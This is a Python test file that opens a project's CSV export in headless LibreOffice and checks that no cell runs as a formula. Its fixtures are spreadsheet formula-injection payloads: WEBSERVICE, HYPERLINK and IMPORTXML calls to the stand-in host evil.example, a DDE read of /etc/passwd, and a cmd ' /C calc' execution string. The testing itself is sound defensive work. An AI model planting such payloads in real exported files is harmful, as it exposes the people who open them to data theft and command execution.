"""CSV opened in LibreOffice: no text of an article runs as a formula. Skipped where LibreOffice is not installed."""

import itertools
import re
import shutil
import subprocess
from pathlib import Path

import pytest

from dragoman.export import Options, Story, exported
from dragoman.model import Actor, Statement
from tests.export.building import document, evidence, row, stories

FORMULAS = (
    "1+1", "SUM(A1:A9)", "HYPERLINK(\"http://evil.example/\"&A1;\"x\")", "WEBSERVICE(\"http://evil.example/\")",
    "cmd|' /C calc'!A0", "DDE(\"soffice\";\"/etc/passwd\";\"A1\")", "IMPORTXML(\"http://evil.example\",\"//a\")", "1E3",
)  # fmt: skip
STARTS = ("=", "+", "-", "@", " =", "\t=", "\u00a0=", "＝", "=-")
PAYLOADS = [start + formula for start, formula in itertools.product(STARTS, FORMULAS)]

needs_libreoffice = pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")


SPLITTING = ["x;=1+1;y", "x;\t=cmd|' /C calc'!A0;y", "x\n=1+1\ny", "x|=1+1|y", "x; +1+1;y", "x;@SUM(A1);y"]


def opened(folder: Path, options: Options, delimiter: str = ",") -> str:
    """The statements' CSV as LibreOffice holds it, cells ending at ``delimiter``, as flat XML."""
    of = document("d1", "Somebody spoke.", title="=1+1", publisher="@SUM(A1)")
    who = Actor(name="=2+2", printed="+3")
    rows = tuple(
        row(
            "statement",
            Statement(evidence=evidence("Somebody spoke.", "Somebody"), speaker=who, kind="quote", words=text),
            of,
            f"s{at:03}",
        )
        for at, text in enumerate(PAYLOADS + SPLITTING)
    )
    exported("csv", stories(Story(document=of, rows=rows)), folder, options)
    subprocess.run(
        ["soffice", f"-env:UserInstallation=file://{folder}/profile", "--headless", f"--infilter=CSV:{ord(delimiter)},34,76",
         "--convert-to", "fods", "--outdir", str(folder), str(folder / "statement.csv")],
        check=True, capture_output=True, timeout=180,
    )  # fmt: skip
    return (folder / "statement.fods").read_text(encoding="utf-8")


def formulas(sheet: str) -> list[str]:
    """What LibreOffice takes for formulas."""
    return re.findall(r'table:formula="([^"]*)"', sheet)


@needs_libreoffice
@pytest.mark.parametrize("delimiter", [",", ";", "|", "\t"])
def test_libreoffice_runs_no_formula_of_the_default_csv(delimiter: str, tmp_path: Path) -> None:
    assert len(PAYLOADS) >= 60
    sheet = opened(tmp_path, Options(), delimiter)
    assert "=1+1" in sheet
    assert formulas(sheet) == []


@needs_libreoffice
@pytest.mark.parametrize("delimiter", [",", ";"])
def test_libreoffice_runs_formulas_of_raw_csv(delimiter: str, tmp_path: Path) -> None:
    assert formulas(opened(tmp_path, Options(raw=True), delimiter))
